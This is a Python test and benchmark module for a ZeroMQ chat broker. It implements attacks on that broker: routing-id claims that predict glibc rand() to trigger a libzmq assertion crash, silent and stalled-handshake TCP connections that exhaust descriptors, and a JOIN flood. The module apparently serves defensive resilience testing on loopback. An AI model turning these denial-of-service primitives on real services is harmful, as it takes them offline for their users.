"""Connection-level attacks on a broker (issue 13, items 1, 6 and 7), as a stranger would make them.

The primitives a scenario test and `benchmarks/hostile_connections.py` share: each
owns its sockets (its own zmq context, or raw sockets) and closes all of them in
``close()``; none starts or stops a broker. Attackers connect from 127.0.0.3 and
up, so that defences per source address can tell them from an honest client on
127.0.0.1. Nothing here waits without a bound.

* Claimed routing ids (item 1): libzmq's ROUTER names a peer that chose no
  routing id ``0x00`` + a 32-bit counter, and does not check that name against
  ids that peers chose in their handshake: when the counter reaches an id a peer
  holds, libzmq aborts (``Assertion failed: ok (src/socket_base.cpp:2113)``).
  The counter starts at glibc's ``rand()``, unseeded ``0x6b8b4567``.
* Silent connections and stalled handshakes (item 6): raw TCP sockets that
  connect and say nothing, finish a ZMTP NULL handshake and say nothing, or send
  a CURVE greeting and stall: each holds one of the broker's descriptors.
* A JOIN flood from one address (item 7): sessions with fresh names, kept alive,
  to fill ``--max-clients``.
"""

from __future__ import annotations

import errno
import os
import resource
import secrets
import selectors
import socket
import struct
import threading
import time
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field

import zmq

from zchat.protocol import Error, Join, Ping, ProtocolError, Welcome, decode_broker, encode

#: The first routing id a ROUTER of a process that never seeded rand() gives out:
#: glibc's first rand() (libzmq's generate_random() = rand() | rand() << 31).
FIRST_AUTO_ID = 0x6B8B4567
HONEST_ADDRESS = "127.0.0.1"
WELCOME = b"ZCHAT/1 WELCOME"


def attacker_addresses(first: int, count: int) -> list[str]:
    """``count`` loopback source addresses from 127.0.0.``first`` (3 and up: attackers)."""
    assert 3 <= first and first + count <= 255
    return [f"127.0.0.{n}" for n in range(first, first + count)]


def from_address(endpoint: str, source: str) -> str:
    """A zmq endpoint that connects to ``endpoint`` from the local address ``source``."""
    assert endpoint.startswith("tcp://")
    return f"tcp://{source}:0;{endpoint[len('tcp://'):]}"


def host_port(endpoint: str) -> tuple[str, int]:
    host, port = endpoint[len("tcp://"):].rsplit(":", 1)
    return host, int(port)


def raise_descriptor_limit(needed: int) -> int:
    """Raise this process's soft RLIMIT_NOFILE to at least ``needed`` (an attacker
    holds many sockets); fail clearly if the hard limit does not allow it."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft >= needed:
        return soft
    if hard != resource.RLIM_INFINITY and hard < needed:
        raise RuntimeError(f"this attack needs {needed} descriptors; the hard limit is {hard}")
    resource.setrlimit(resource.RLIMIT_NOFILE, (needed, hard))
    return needed


def cpu_seconds(pid: int) -> float:
    """utime + stime of process ``pid`` (all its threads), from /proc/PID/stat."""
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def open_descriptors(pid: int) -> int:
    """How many descriptors process ``pid`` has open (-1: it is gone)."""
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


# ---- CURVE ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Curve:
    """What a CURVE client needs: the server's public key and its own pair (z85)."""

    server_public: bytes
    public: bytes
    secret: bytes

    @classmethod
    def made_up(cls, server_public: bytes) -> Curve:
        """A key pair of the attacker's own (admitted by a broker without an allow list)."""
        public, secret = zmq.curve_keypair()
        return cls(server_public, public, secret)

    def apply(self, sock: zmq.Socket) -> None:
        """Before connect, as libzmq requires."""
        sock.curve_serverkey = self.server_public
        sock.curve_publickey = self.public
        sock.curve_secretkey = self.secret


# ---- item 1: claimed routing ids ------------------------------------------------------


def glibc_rand(seed: int, count: int) -> list[int]:
    """The first ``count`` values of glibc's rand() after srand(seed) (its TYPE_3
    additive generator; unseeded is srand(1))."""
    state = [0] * (344 + count)
    word = seed & 0xFFFFFFFF or 1
    state[0] = word - (1 << 32) if word >= 1 << 31 else word  # glibc keeps an int32_t
    for i in range(1, 31):
        prev = state[i - 1]
        hi = int(prev / 127773)  # C division truncates toward zero
        lo = prev - hi * 127773
        word = 16807 * lo - 2836 * hi
        state[i] = word + 2147483647 if word < 0 else word
    for i in range(31, 34):
        state[i] = state[i - 31]
    state = [value & 0xFFFFFFFF for value in state]
    for i in range(34, 344 + count):
        state[i] = (state[i - 31] + state[i - 3]) & 0xFFFFFFFF
    return [value >> 1 for value in state[344:]]


def first_auto_id(seed: int, routers_before: int = 0) -> int:
    """The first routing id libzmq gives out on a ROUTER made after srand(seed), when
    ``routers_before`` ROUTER-like sockets (ROUTER, REP) were made since."""
    values = glibc_rand(seed, 2 * routers_before + 2)
    low, high = values[-2], values[-1]
    return (low | (high << 31)) & 0xFFFFFFFF


def routing_id(counter: int) -> bytes:
    """The routing id libzmq gives a peer when its counter reads ``counter``."""
    return b"\x00" + struct.pack(">I", counter & 0xFFFFFFFF)


def next_auto_ids(count: int, start: int = FIRST_AUTO_ID, skip: int = 1) -> list[bytes]:
    """The ids an unseeded broker hands out next, from its ``skip``-th connection on
    (the broker's own first peer may take the first)."""
    return [routing_id(start + k) for k in range(skip, skip + count)]


def guessed_auto_ids(started: float, pid: int | None = None, window: int = 2,
                     spread: int = 800, stride: int = 8) -> list[bytes]:
    """What a stranger claims next, once the unseeded ids are known not to be safe:
    the first ids after srand() with the seeds a careless broker would use (its start
    time to the second, within ``window`` s; its pid; the two mixed), on the first or
    second ROUTER-like socket made; and the unseeded counter further on, for a broker
    that has already seen up to ``spread`` connections."""
    seeds: set[int] = set()
    for second in range(int(started) - window, int(started) + window + 1):
        seeds.add(second)
        if pid is not None:
            seeds.update((second ^ pid, second + pid))
    if pid is not None:
        seeds.add(pid)
    claims: list[bytes] = []
    for seed in sorted(seeds):
        for routers_before in (0, 1):
            start = first_auto_id(seed, routers_before)
            claims += [routing_id(start + k) for k in range(3)]
    claims += next_auto_ids(100)
    claims += [routing_id(FIRST_AUTO_ID + k) for k in range(101, spread, stride)]
    return list(dict.fromkeys(claims))


#: Monitor events after which a connection's handshake is over, one way or the other.
_HANDSHAKE_OVER = (zmq.EVENT_HANDSHAKE_SUCCEEDED | zmq.EVENT_HANDSHAKE_FAILED_NO_DETAIL
                   | zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL | zmq.EVENT_HANDSHAKE_FAILED_AUTH
                   | zmq.EVENT_DISCONNECTED | zmq.EVENT_CONNECT_RETRIED)


@dataclass
class Outcomes:
    """How the handshakes of a group of DEALERs ended (first event of each)."""

    succeeded: int = 0
    failed: int = 0
    pending: int = 0

    def __str__(self) -> str:
        return f"{self.succeeded} handshaken, {self.failed} refused or cut, {self.pending} pending"


class Dealers:
    """DEALER sockets with a handshake monitor each, in one context of their own."""

    def __init__(self, ctx: zmq.Context) -> None:
        self.ctx = ctx
        self.socks: list[zmq.Socket] = []
        self.monitors: list[zmq.Socket] = []

    def connect(self, endpoint: str, ident: bytes | None = None,
                curve: Curve | None = None) -> zmq.Socket:
        sock = self.ctx.socket(zmq.DEALER)
        sock.setsockopt(zmq.LINGER, 0)
        if ident is not None:
            sock.setsockopt(zmq.ROUTING_ID, ident)
        if curve is not None:
            curve.apply(sock)
        self.monitors.append(sock.get_monitor_socket(_HANDSHAKE_OVER))
        sock.connect(endpoint)
        self.socks.append(sock)
        return sock

    def settle(self, timeout: float) -> Outcomes:
        """Wait (at most ``timeout``) until every handshake is over; count how they ended."""
        poller = zmq.Poller()
        for monitor in self.monitors:
            poller.register(monitor, zmq.POLLIN)
        outcomes = Outcomes(pending=len(self.monitors))
        deadline = time.monotonic() + timeout
        while outcomes.pending and (left := deadline - time.monotonic()) > 0:
            for monitor, _ in poller.poll(left * 1000):
                poller.unregister(monitor)
                event = struct.unpack("=hi", monitor.recv_multipart()[0])[0]
                outcomes.pending -= 1
                if event == zmq.EVENT_HANDSHAKE_SUCCEEDED:
                    outcomes.succeeded += 1
                else:
                    outcomes.failed += 1
        return outcomes

    def close(self) -> None:
        for sock in self.socks:
            sock.disable_monitor()
            sock.close(0)
        for monitor in self.monitors:
            monitor.close(0)
        self.socks.clear()
        self.monitors.clear()


@dataclass
class RoutingIdReport:
    claims: Outcomes
    ordinary: Outcomes

    def __str__(self) -> str:
        return f"claims: {self.claims}; ordinary connections: {self.ordinary}"


class RoutingIdAttack:
    """DEALERs claiming routing ids, then ordinary DEALERs that take libzmq's next ids.

    Claims are spread over ``addresses`` (at most ``per_address`` each), and so are the
    ordinary connections, so that a limit per source address does not stop them."""

    def __init__(self, endpoint: str, claims: Sequence[bytes], ordinary: int,
                 curve: Curve | None = None, addresses: Sequence[str] | None = None,
                 per_address: int = 40) -> None:
        self.endpoint = endpoint
        self.claims = list(claims)
        self.ordinary = ordinary
        self.curve = curve
        self.addresses = list(addresses or attacker_addresses(3, 60))
        self.per_address = per_address
        self.ctx = zmq.Context()
        self.ctx.max_sockets = 4 * (len(self.claims) + ordinary) + 64
        self._claimers = Dealers(self.ctx)
        self._ordinary = Dealers(self.ctx)
        self._next = 0

    def _source(self) -> str:
        """The next source address, ``per_address`` connections to each in turn."""
        address = self.addresses[(self._next // self.per_address) % len(self.addresses)]
        self._next += 1
        return address

    def run(self, settle: float = 5.0) -> RoutingIdReport:
        """Claim every id and wait until those handshakes are over (at most ``settle``),
        then open the ordinary connections and wait for theirs the same way."""
        raise_descriptor_limit(3 * (len(self.claims) + self.ordinary) + 256)
        for ident in self.claims:
            self._claimers.connect(from_address(self.endpoint, self._source()), ident,
                                   self.curve)
        claims = self._claimers.settle(settle)
        for _ in range(self.ordinary):
            self._ordinary.connect(from_address(self.endpoint, self._source()), None, self.curve)
        return RoutingIdReport(claims, self._ordinary.settle(settle))

    def close(self) -> None:
        self._claimers.close()
        self._ordinary.close()
        self.ctx.term()


class Claimer:
    """One DEALER with a claimed routing id, which sends and keeps what it receives."""

    def __init__(self, endpoint: str, ident: bytes, curve: Curve | None = None,
                 source: str = "127.0.0.3") -> None:
        self.ident = ident
        self.ctx = zmq.Context()
        self.sock = self.ctx.socket(zmq.DEALER)
        self.sock.setsockopt(zmq.LINGER, 0)
        self.sock.setsockopt(zmq.ROUTING_ID, ident)
        if curve is not None:
            curve.apply(self.sock)
        self.sock.connect(from_address(endpoint, source))

    def send(self, frame: bytes) -> None:
        self.sock.send(frame)

    def received(self, window: float) -> list[bytes]:
        """Every frame that arrives within ``window`` seconds (and any already queued)."""
        got: list[bytes] = []
        deadline = time.monotonic() + window
        while True:
            left = deadline - time.monotonic()
            if not self.sock.poll(max(0.0, left) * 1000, zmq.POLLIN):
                return got
            got += self.sock.recv_multipart()

    def close(self) -> None:
        self.sock.close(0)
        self.ctx.term()


# ---- newcomers ----------------------------------------------------------------------------


@dataclass(frozen=True)
class JoinProbe:
    """A newcomer's JOIN: how long until the broker answered, and what it said."""

    waited: float | None  # None: no answer in time
    answer: str  # "WELCOME", an ERROR's code, or "" (none)

    @property
    def welcomed(self) -> bool:
        return self.answer == "WELCOME"

    def __str__(self) -> str:
        if self.waited is None:
            return "no answer"
        return f"{self.answer} after {self.waited:.3f}s"


def join_round_trip(endpoint: str, name: str, timeout: float, curve: Curve | None = None,
                    source: str = HONEST_ADDRESS) -> JoinProbe:
    """A newcomer's JOIN on a fresh DEALER, timed to the broker's WELCOME or ERROR (at
    most ``timeout``). The clock starts before connecting: a connection the broker does
    not take in yet counts against it."""
    ctx = zmq.Context()
    sock = ctx.socket(zmq.DEALER)
    try:
        sock.setsockopt(zmq.LINGER, 0)
        if curve is not None:
            curve.apply(sock)
        started = time.monotonic()
        sock.connect(from_address(endpoint, source))
        sock.send(encode(Join(name, secrets.token_hex(16))))
        deadline = started + timeout
        while (left := deadline - time.monotonic()) > 0:
            if not sock.poll(left * 1000, zmq.POLLIN):
                break
            try:
                reply = decode_broker(sock.recv_multipart()[0])
            except ProtocolError:
                continue
            if isinstance(reply, Welcome | Error):
                answer = "WELCOME" if isinstance(reply, Welcome) else reply.code
                return JoinProbe(time.monotonic() - started, answer)
        return JoinProbe(None, "")
    finally:
        sock.close(0)
        ctx.term()


# ---- item 6: silent connections and stalled handshakes ------------------------------------


def zmtp_greeting(mechanism: bytes, as_server: bool = False) -> bytes:
    """A ZMTP 3.0 greeting (ZeroMQ RFC 23): 64 octets."""
    return (b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + mechanism.ljust(20, b"\x00")
            + bytes([as_server]) + b"\x00" * 31)


def _zmtp_command(name: bytes, properties: Iterable[tuple[bytes, bytes]]) -> bytes:
    body = bytes([len(name)]) + name
    for key, value in properties:
        body += bytes([len(key)]) + key + struct.pack(">I", len(value)) + value
    assert len(body) < 256
    return b"\x04" + bytes([len(body)]) + body


#: A DEALER's whole NULL handshake: after it the broker holds a peer that never speaks.
NULL_HELLO = zmtp_greeting(b"NULL") + _zmtp_command(
    b"READY", [(b"Socket-Type", b"DEALER"), (b"Identity", b"")])
#: A CURVE client's greeting, and then nothing: no HELLO, no key.
CURVE_STALL = zmtp_greeting(b"CURVE")


@dataclass
class SilentStats:
    opened: int = 0  # TCP connections established
    cut: int = 0  # ... that the broker closed
    failed: int = 0  # connects that failed
    errors: list[str] = field(default_factory=list)


class SilentConnections:
    """Raw TCP connections to a broker that send ``hello`` (maybe nothing) and then
    nothing more, from ``addresses`` in turn; a thread of their own.

    ``count`` connections are opened, ``rate`` a second (None: at once); with
    ``refill``, each one the broker closes is opened again (at most ``REFILL_RATE`` a
    second), so the attacker keeps ``count`` open whatever the broker closes.
    Received bytes are read and dropped."""

    #: Reopened connections a second, at most: enough to take back every descriptor a
    #: broker frees, without the attacker's loop taking a core of its own.
    REFILL_RATE = 1000.0

    def __init__(self, endpoint: str, addresses: Sequence[str], count: int | None,
                 hello: bytes = b"", rate: float | None = None, refill: bool = False) -> None:
        assert count is not None or rate is not None, "an endless attack needs a rate"
        self.host, self.port = host_port(endpoint)
        self.addresses = list(addresses)
        self.count = count
        self.hello = hello
        self.rate = rate
        self.refill = refill
        self.stats = SilentStats()
        self._stop = threading.Event()
        self._selector = selectors.DefaultSelector()
        self._open: set[socket.socket] = set()
        self._started = 0
        self._owed = 0  # connections the broker closed, to open again
        self._lock = threading.Condition()
        self._thread = threading.Thread(target=self._run, name="silent-connections",
                                        daemon=True)

    def start(self) -> SilentConnections:
        needed = (self.count or int(self.rate or 0) * 60) + 256
        raise_descriptor_limit(needed)
        self._thread.start()
        return self

    @property
    def holding(self) -> int:
        """Connections open now (as far as this side knows)."""
        with self._lock:
            return len(self._open)

    def wait_opened(self, opened: int, timeout: float) -> bool:
        """Wait until ``opened`` connections were tried: established (in all, not at
        once; a broker may close them as they come) or refused."""
        deadline = time.monotonic() + timeout
        with self._lock:
            while self.stats.opened + self.stats.failed < opened:
                left = deadline - time.monotonic()
                if left <= 0 or self._stop.is_set():
                    return False
                self._lock.wait(min(left, 0.1))
        return True

    def _connect(self) -> None:
        address = self.addresses[self._started % len(self.addresses)]
        self._started += 1
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        # Closing sends RST: no TIME_WAIT left behind on either side.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        # Pick the source port at connect, so ports in TIME_WAIT for other peers are reused.
        sock.setsockopt(socket.IPPROTO_IP, getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24), 1)
        sock.setblocking(False)
        try:
            sock.bind((address, 0))
            code = sock.connect_ex((self.host, self.port))
        except OSError as exc:
            code = exc.errno or errno.EIO
        if code not in (0, errno.EINPROGRESS):
            sock.close()
            self.stats.failed += 1
            if len(self.stats.errors) < 5:
                self.stats.errors.append(os.strerror(code))
            return
        with self._lock:
            self._open.add(sock)
        self._selector.register(sock, selectors.EVENT_WRITE, "connecting")

    def _drop(self, sock: socket.socket, cut: bool) -> None:
        self._selector.unregister(sock)
        sock.close()
        with self._lock:
            self._open.discard(sock)
            if cut:
                self.stats.cut += 1
        if cut and self.refill:
            self._owed += 1

    def _due(self, now: float, began: float) -> int:
        """How many more connections to start now."""
        target = self.count if self.count is not None else 1 << 30
        if self.rate is not None:
            target = min(target, int((now - began) * self.rate) + 1)
        return max(0, target - self._started)

    def _run(self) -> None:
        began = last = time.monotonic()
        allowance = 0.0
        try:
            while not self._stop.is_set():
                now = time.monotonic()
                for _ in range(self._due(now, began)):
                    self._connect()
                allowance = min(self.REFILL_RATE / 10,
                                allowance + (now - last) * self.REFILL_RATE)
                last = now
                while self._owed and allowance >= 1:
                    self._owed -= 1
                    allowance -= 1
                    self._connect()
                for key, _ in self._selector.select(0.02):
                    sock = key.fileobj
                    assert isinstance(sock, socket.socket)
                    if key.data == "connecting":
                        code = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                        if code:
                            self.stats.failed += 1
                            self._drop(sock, cut=False)
                            continue
                        with self._lock:
                            self.stats.opened += 1
                            self._lock.notify_all()
                        try:
                            sock.send(self.hello)  # far under the send buffer: all of it
                        except OSError:
                            self._drop(sock, cut=True)
                            continue
                        self._selector.modify(sock, selectors.EVENT_READ, "open")
                        continue
                    try:
                        data = sock.recv(65536)
                    except BlockingIOError:
                        continue
                    except OSError:
                        data = b""
                    if not data:
                        self._drop(sock, cut=True)
        except Exception as exc:  # a bug here: shown in stats, and the waits end
            self.stats.errors.append(repr(exc))
            self._stop.set()

    def close(self) -> None:
        self._stop.set()
        if self._thread.is_alive():
            self._thread.join(10)
        with self._lock:
            for sock in self._open:
                sock.close()
            self._open.clear()
        self._selector.close()


# ---- item 7: filling --max-clients from one address ----------------------------------------


@dataclass
class JoinStats:
    welcomed: int = 0
    refused: dict[str, int] = field(default_factory=dict)  # ERROR code -> count

    @property
    def answered(self) -> int:
        return self.welcomed + sum(self.refused.values())


class JoinFlood:
    """``count`` DEALERs from one ``address``, each JOINing with a fresh name, kept in
    the chat by a PING every ``keepalive`` seconds; a thread of their own."""

    def __init__(self, endpoint: str, count: int, address: str = "127.0.0.3",
                 keepalive: float = 0.3, prefix: str = "bot") -> None:
        self.endpoint = endpoint
        self.count = count
        self.address = address
        self.keepalive = keepalive
        self.prefix = prefix
        self.stats = JoinStats()
        self._stop = threading.Event()
        self._lock = threading.Condition()
        self._last_answer = time.monotonic()
        self._error = ""
        #: Sockets that got a WELCOME (only the flood's thread uses them).
        self.joined: set[zmq.Socket] = set()
        self._thread = threading.Thread(target=self._run, name="join-flood", daemon=True)

    def start(self) -> JoinFlood:
        raise_descriptor_limit(2 * self.count + 256)
        self._thread.start()
        return self

    def settle(self, timeout: float, quiet: float = 2.0) -> JoinStats:
        """Wait until every JOIN was answered, or nothing more came for ``quiet`` s
        (a broker may close a connection without an answer), at most ``timeout``."""
        deadline = time.monotonic() + timeout
        with self._lock:
            while self.stats.answered < self.count and not self._error:
                now = time.monotonic()
                if now >= deadline or now - self._last_answer >= quiet:
                    break
                self._lock.wait(0.05)
        assert not self._error, self._error
        return self.stats

    def _run(self) -> None:
        ctx = zmq.Context()
        socks: list[zmq.Socket] = []
        try:
            poller = zmq.Poller()
            tag = secrets.token_hex(3)
            for n in range(self.count):
                sock = ctx.socket(zmq.DEALER)
                sock.setsockopt(zmq.LINGER, 0)
                sock.connect(from_address(self.endpoint, self.address))
                sock.send(encode(Join(f"{self.prefix}{tag}{n}", secrets.token_hex(16))))
                poller.register(sock, zmq.POLLIN)
                socks.append(sock)
            with self._lock:
                self._last_answer = time.monotonic()
            answered: set[zmq.Socket] = set()
            ping = encode(Ping())
            next_ping = time.monotonic() + self.keepalive
            while not self._stop.is_set():
                for sock, _ in poller.poll(50):
                    while sock.poll(0, zmq.POLLIN):
                        self._answer(sock, sock.recv_multipart()[0], answered)
                if time.monotonic() >= next_ping:
                    for sock in self.joined:
                        try:
                            sock.send(ping, zmq.NOBLOCK)
                        except zmq.Again:
                            pass
                    next_ping = time.monotonic() + self.keepalive
        except Exception as exc:
            with self._lock:
                self._error = repr(exc)
                self._lock.notify_all()
        finally:
            for sock in socks:
                sock.close(0)
            ctx.term()

    def _answer(self, sock: zmq.Socket, frame: bytes, answered: set[zmq.Socket]) -> None:
        """Count the first answer to each socket's JOIN (WELCOME, or an ERROR's code)."""
        if sock in answered:
            return
        try:
            reply = decode_broker(frame)
        except ProtocolError:
            return
        if not isinstance(reply, Welcome | Error):
            return
        answered.add(sock)
        with self._lock:
            if isinstance(reply, Welcome):
                self.stats.welcomed += 1
                self.joined.add(sock)
            else:
                self.stats.refused[reply.code] = self.stats.refused.get(reply.code, 0) + 1
            self._last_answer = time.monotonic()
            self._lock.notify_all()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(10)
